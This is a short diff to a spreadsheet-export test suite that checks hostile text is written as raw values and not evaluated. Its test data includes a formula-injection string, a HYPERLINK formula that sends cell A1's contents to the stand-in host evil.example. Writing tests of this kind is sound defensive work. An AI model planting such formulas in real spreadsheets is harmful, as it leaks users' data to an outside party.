@@ -306,6 +306,9 @@ describe('hostile text in every text field', () => {
     for (const f of ['=HYPERLINK("http://evil.example/?"&A1,"Click me")', '-2+3', '=1+1']) {
       expect(sheetText, f).toContain(f);
     }
-    expect(emu.writeLog.every((w) => w.valueInputOption === 'RAW')).toBe(true);
+    // Every write of cell values is RAW (the tab's widening to column AB writes none).
+    const valueWrites = emu.writeLog.filter((w) => w.method !== 'spreadsheets.batchUpdate');
+    expect(valueWrites.length).toBeGreaterThan(0);
+    expect(valueWrites.every((w) => w.valueInputOption === 'RAW')).toBe(true);
   });
 });
